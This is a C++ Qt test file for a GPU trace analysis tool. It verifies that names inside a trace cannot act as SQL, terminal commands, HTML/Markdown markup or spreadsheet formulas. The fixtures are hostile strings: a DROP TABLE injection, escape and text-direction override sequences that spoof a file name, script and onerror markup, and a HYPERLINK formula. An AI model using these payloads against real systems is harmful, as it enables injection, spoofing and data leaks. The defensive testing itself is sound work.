// SPDX-License-Identifier: GPL-3.0-or-later
// Texts and names of a trace that are SQL, markup, formulas or commands of a terminal somewhere.
#include "cliprocess.h"
#include "csvparser.h"
#include "exportbuilder.h"
#include "report/verification/figureverification.h"
#include "trace/traceloader.h"
#include "variedexport.h"
#include "verifyexpected.h"

#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>

namespace {

const auto Injection = QStringLiteral("x\"'; DROP TABLE StringIds; -- %1 \\ ?1 :a [b]");

/// Commands for a terminal, of 7 and 8 bits, and characters that turn the writing direction.
const auto Commands
    = QStringLiteral("\x1b[31mred\x1b]0;title\x07\u009b2J\u009d0;x\u009c\u202egpj.exe\u2066\rover\nline\ttab");
const auto Markup = QStringLiteral("<script>alert(1)</script>|`[a](javascript:b)`<img src=x onerror=y>");
const auto Formula = QStringLiteral("=HYPERLINK(\"http://a.example/?\"&A1,\"click\")");

QString quoted(QString name)
{
    return u'"' + name.replace(u'"', QStringLiteral("\"\"")) + u'"';
}

QByteArray contentOf(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

/// The first character that a terminal, or the reader's eye, would take for a command; none: 0.
char32_t firstCommand(const QString& text)
{
    for (const char32_t c : text.toUcs4()) {
        const bool isControl = (c < 0x20 && c != '\n') || (c >= 0x7f && c < 0xa0);
        const bool turns
            = c == 0x61c || (c >= 0x202a && c <= 0x202e) || (c >= 0x2066 && c <= 0x2069) || c == 0x200e || c == 0x200f;
        if (isControl || turns)
            return c;
    }
    return 0;
}

/// The first command in a file that programs read; tabs and line breaks are none. none: 0.
char32_t firstCommandOfFile(const QByteArray& bytes)
{
    auto text = QString::fromUtf8(bytes);
    for (const char16_t space : { u'\t', u'\r' }) // CSV ends its lines with both
        text.remove(QChar(space));
    return firstCommand(text);
}

/// All texts in a JSON value, as a program gets them.
QString textsOf(const QJsonValue& value)
{
    QString texts;
    if (value.isString())
        return value.toString() + u'\n';
    for (const auto& element : value.toArray())
        texts += textsOf(element);
    const auto object = value.toObject();
    for (auto member = object.begin(); member != object.end(); ++member)
        texts += textsOf(member.value());
    return texts;
}

/// The text wherever a trace has one.
fixtures::ExportBuilder traceNaming(const QString& text)
{
    auto builder = variedexport::variedExport(fixtures::ExportVersion::V3_25_0);
    builder.addProcess(variedexport::Pids[0], text);
    builder.addThreadName(variedexport::Pids[0], variedexport::Pids[0], text);
    builder.addGpu({ .name = text, .busLocation = text });
    builder.addCall({ .startNs = 400'000, .endNs = 401'000, .name = text, .correlation = 900 });
    builder.addKernel(
        { .startNs = 402'000, .endNs = 500'000, .shortName = text, .fullName = text, .correlation = 900 });
    builder.addNvtx({ .startNs = 399'000, .endNs = 501'000, .text = text });
    builder.addOsrt({ .startNs = 1, .endNs = 2, .name = text });
    builder.addOverhead({ .startNs = 1, .endNs = 2, .name = text });
    builder.addGpuMetric({ .timeNs = 500, .values = { { text, 1 } } });
    builder.addDiagnostic(1, 3, text);
    builder.addExportMeta(text, text);
    builder.addCaptureMeta(text, text);
    builder.addRow(text, { { text, 1 } });
    return builder;
}

} // namespace

class TestHostileTexts : public QObject
{
    Q_OBJECT

    QTemporaryDir m_place;

    [[nodiscard]] QString written(const fixtures::ExportBuilder& builder, const QString& name) const
    {
        const auto path = m_place.filePath(name);
        return builder.write(path) ? path : QString();
    }

private Q_SLOTS:
    void namesOfTablesAreNoSql_data()
    {
        QTest::addColumn<QString>("change");
        const auto row
            = [](const char* name, const QString& change) { QTest::newRow(name) << change.arg(quoted(Injection)); };
        // any table of ids and values will do for strings
        row("table of strings", QStringLiteral("ALTER TABLE StringIds RENAME TO %1"));
        row("another table", QStringLiteral("CREATE TABLE %1 (a)"));
        row("another column", QStringLiteral("ALTER TABLE CUPTI_ACTIVITY_KIND_KERNEL ADD COLUMN %1"));
        row("view", QStringLiteral("CREATE VIEW %1 AS SELECT * FROM CUPTI_ACTIVITY_KIND_KERNEL"));
    }

    /// Read, and asked in SQL for every figure, as if the name were any other.
    void namesOfTablesAreNoSql()
    {
        QFETCH(QString, change);
        const auto usual = core::loadTrace(written(fixtures::goldenSeed(), QStringLiteral("usual.sqlite")));
        VERIFY_EXPECTED(usual);
        auto builder = fixtures::goldenSeed();
        builder.execute(change);
        const auto path = written(builder, QStringLiteral("names.sqlite"));
        QVERIFY(!path.isEmpty());
        const auto before = contentOf(path);
        for (const bool isNative : { true, false }) {
            const auto trace = core::loadTrace(path, { .allowNativeSqlite = isNative });
            VERIFY_EXPECTED(trace);
            QCOMPARE((*trace)->eventCount(), (*usual)->eventCount());
            QCOMPARE((*trace)->kernelNames.size(), (*usual)->kernelNames.size());
            QCOMPARE((*trace)->kernelNames[0].fullName, (*usual)->kernelNames[0].fullName);
            const auto results = core::analyze(*trace);
            VERIFY_EXPECTED(results);
            const auto verification = core::verifyFigures(**results);
            VERIFY_EXPECTED(verification);
            QVERIFY2(verification->differences.empty(),
                     verification->differences.empty() ? "" : qPrintable(verification->differences[0].sql));
        }
        QCOMPARE(contentOf(path), before);
        QCOMPARE(runCli({ QStringLiteral("schema"), path }).exitCode, 0);
    }

    void textsAreNoSql()
    {
        const auto path = written(traceNaming(Injection), QStringLiteral("texts.sqlite"));
        const auto trace = core::loadTrace(path);
        VERIFY_EXPECTED(trace);
        core::Scope inRange;
        inRange.nvtx = core::NvtxLimit { Injection, {} };
        core::Scope inWindow;
        inWindow.window = { 399'000, 501'000 };
        for (const auto& scope : { core::Scope(), inWindow, inRange }) {
            const auto results = core::analyze(*trace, scope);
            VERIFY_EXPECTED(results);
            const auto kernels = (*results)->table(u"kernels");
            QVERIFY(kernels && kernels->rowCount > 0);
            const auto verification = core::verifyFigures(**results);
            VERIFY_EXPECTED(verification);
            QVERIFY2(verification->differences.empty(),
                     verification->differences.empty() ? "" : qPrintable(verification->differences[0].sql));
        }
        const auto run = runCli({ QStringLiteral("report"), path, QStringLiteral("--nvtx"), Injection,
                                  QStringLiteral("--out"), m_place.filePath(QStringLiteral("nvtx")) });
        QVERIFY2(run.exitCode == 0, qPrintable(run.messages));
    }

    void noTextCommandsTheTerminal_data()
    {
        QTest::addColumn<QStringList>("arguments");
        const auto path = written(traceNaming(Commands), QStringLiteral("commands.sqlite"));
        const auto out = QStringLiteral("--out");
        QTest::newRow("report") << QStringList { QStringLiteral("report"), path, out,
                                                 m_place.filePath(QStringLiteral("commands")) };
        QTest::newRow("schema") << QStringList { QStringLiteral("schema"), path };
        QTest::newRow("verify") << QStringList { QStringLiteral("verify"), path };
        QTest::newRow("convert") << QStringList { QStringLiteral("convert"), path, out,
                                                  m_place.filePath(QStringLiteral("commands.json")) };
        QTest::newRow("no such process") << QStringList {
            QStringLiteral("report"), path,    out, m_place.filePath(QStringLiteral("none")),
            QStringLiteral("--pid"),  Commands
        };
        QTest::newRow("no such range") << QStringList {
            QStringLiteral("report"), path, out, m_place.filePath(QStringLiteral("none")), QStringLiteral("--nvtx"),
            QStringLiteral("nowhere")
        };
        QTest::newRow("no such file") << QStringList { QStringLiteral("schema"), Commands };
        QTest::newRow("no such command") << QStringList { Commands };
        QTest::newRow("no such option") << QStringList { QStringLiteral("schema"), QStringLiteral("--") + Commands };
    }

    void noTextCommandsTheTerminal()
    {
        QFETCH(QStringList, arguments);
        const auto run = runCli(arguments);
        QVERIFY(run.exitCode >= 0);
        QVERIFY(!(run.output + run.messages).isEmpty());
        for (const auto& text : { run.output, run.messages })
            QVERIFY2(firstCommand(text) == 0, qPrintable(QString::number(firstCommand(text), 16) + text));
    }

    /// Files too, and their names: they are shown in terminals, and by editors that obey what turns the writing
    /// direction.
    void noOutputHoldsCommands_data()
    {
        QTest::addColumn<bool>("isRaw");
        QTest::newRow("visible") << false;
        QTest::newRow("raw") << true;
    }

    void noOutputHoldsCommands()
    {
        QFETCH(bool, isRaw);
        const auto text = Commands + QStringLiteral("\x7f\u202a\u2069\u200e\u200f\u061c");
        const auto path = written(traceNaming(text), QStringLiteral("a\x1b[31m\u202eb.sqlite"));
        const auto out = m_place.filePath(isRaw ? QStringLiteral("rawout") : QStringLiteral("out"));
        const auto raw = isRaw ? QStringList { QStringLiteral("--raw-text") } : QStringList();
        const auto report = runCli(QStringList { QStringLiteral("report"), path, QStringLiteral("--out"), out,
                                                 QStringLiteral("--include-machine-details") }
                                   + raw);
        QVERIFY2(report.exitCode == 0, qPrintable(report.messages));
        for (const auto* name : { "/a.json", "/a.perfetto-trace" }) {
            const auto convert = runCli(
                QStringList { QStringLiteral("convert"), path, QStringLiteral("-o"), out + QLatin1String(name) } + raw);
            QVERIFY2(convert.exitCode == 0, qPrintable(convert.messages));
        }
        int files = 0, raws = 0;
        for (QDirIterator it(out,
                             { QStringLiteral("*.csv"), QStringLiteral("*.json"), QStringLiteral("*.md"),
                               QStringLiteral("*.html") },
                             QDir::Files, QDirIterator::Subdirectories);
             it.hasNext(); ++files) {
            const auto file = it.next();
            const auto bytes = contentOf(file);
            auto found = firstCommandOfFile(bytes);
            if (file.endsWith(QStringLiteral(".json"))) {
                const auto document = QJsonDocument::fromJson(bytes);
                QVERIFY(!document.isNull());
                found = std::max(found, firstCommandOfFile(textsOf(document.object()).toUtf8()));
            }
            raws += found == 0 ? 0 : 1;
            const bool mayBeRaw
                = isRaw && (file.endsWith(QStringLiteral(".csv")) || file.endsWith(QStringLiteral(".json")));
            QVERIFY2(found == 0 || mayBeRaw, qPrintable(file + u' ' + QString::number(found, 16)));
        }
        QVERIFY(files > 20);
        QVERIFY(!isRaw || raws > 3); // among them the file's name in trace_info.csv
        const auto perfetto = contentOf(out + QStringLiteral("/a.perfetto-trace"));
        QCOMPARE(perfetto.contains("\x1b[31mred"), isRaw);
        QCOMPARE(perfetto.contains("\\u001b[31mred"), !isRaw);
        const auto info = contentOf(out + QStringLiteral("/tables/trace_info.csv"));
        QVERIFY(info.contains(isRaw ? "a\x1b[31m" : "a\\u001b[31m\\u202eb.sqlite"));
    }

    void noTextOfAReportIsMarkup()
    {
        const auto out = m_place.filePath(QStringLiteral("markup"));
        const auto run
            = runCli({ QStringLiteral("report"), written(traceNaming(Markup), QStringLiteral("markup.sqlite")),
                       QStringLiteral("--include-machine-details"), QStringLiteral("--out"), out });
        QVERIFY2(run.exitCode == 0, qPrintable(run.messages));
        const auto html = QString::fromUtf8(contentOf(out + QStringLiteral("/report.html")));
        QVERIFY(html.contains(QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;|`[a](javascript:b)`")));
        QVERIFY(!html.contains(QStringLiteral("<script")));
        QVERIFY(!html.contains(QStringLiteral("<img")));
        const auto markdown = QString::fromUtf8(contentOf(out + QStringLiteral("/report.md")));
        QVERIFY(markdown.contains(QStringLiteral("\\<script\\>alert(1)\\</script\\>\\|\\`\\[a\\](javascript:b)\\`")));
        QVERIFY(!markdown.contains(QStringLiteral("alert(1)</script>")));
        QVERIFY(!markdown.contains(QStringLiteral("[a](")));
        QJsonParseError error;
        QJsonDocument::fromJson(contentOf(out + QStringLiteral("/report.json")), &error);
        QCOMPARE(error.error, QJsonParseError::NoError);
    }

    void noTextOfACsvIsAFormula()
    {
        const auto path = written(traceNaming(Formula), QStringLiteral("formula.sqlite"));
        const auto out = m_place.filePath(QStringLiteral("formula"));
        const auto formulas = [&](const QStringList& options) {
            const auto run
                = runCli(QStringList { QStringLiteral("report"), path, QStringLiteral("--out"), out } + options);
            int count = run.exitCode == 0 ? 0 : -1;
            for (QDirIterator it(out + QStringLiteral("/tables"), QDir::Files); it.hasNext();) {
                const auto records = parseCsv(contentOf(it.next()));
                if (!records)
                    return -1;
                for (const auto& record : *records)
                    count += static_cast<int>(std::count_if(record.begin(), record.end(), [](const QString& field) {
                        return !field.isEmpty() && QStringLiteral("=+-@\t\r").contains(field[0])
                            && !field.mid(1, 1).contains(QRegularExpression(QStringLiteral("[0-9]")));
                    }));
            }
            return count;
        };
        QCOMPARE(formulas({}), 0);
        QVERIFY(contentOf(out + QStringLiteral("/tables/kernels.csv")).contains("'=HYPERLINK"));
        QVERIFY(contentOf(out + QStringLiteral("/report.json")).contains("\"=HYPERLINK"));
        QVERIFY(formulas({ QStringLiteral("--csv-formulas"), QStringLiteral("keep") }) > 0);
        QVERIFY(contentOf(out + QStringLiteral("/tables/kernels.csv")).contains("\"=HYPERLINK"));
        QCOMPARE(formulas({ QStringLiteral("--csv-formulas=quote") }), 0);
        const auto wrong = runCli({ QStringLiteral("report"), path, QStringLiteral("--out"), out,
                                    QStringLiteral("--csv-formulas"), QStringLiteral("eat") });
        QCOMPARE(wrong.exitCode, 2);
        QVERIFY(wrong.messages.contains(QStringLiteral("--csv-formulas takes quote or keep")));
    }
};

QTEST_GUILESS_MAIN(TestHostileTexts)
#include "tst_hostiletexts.moc"
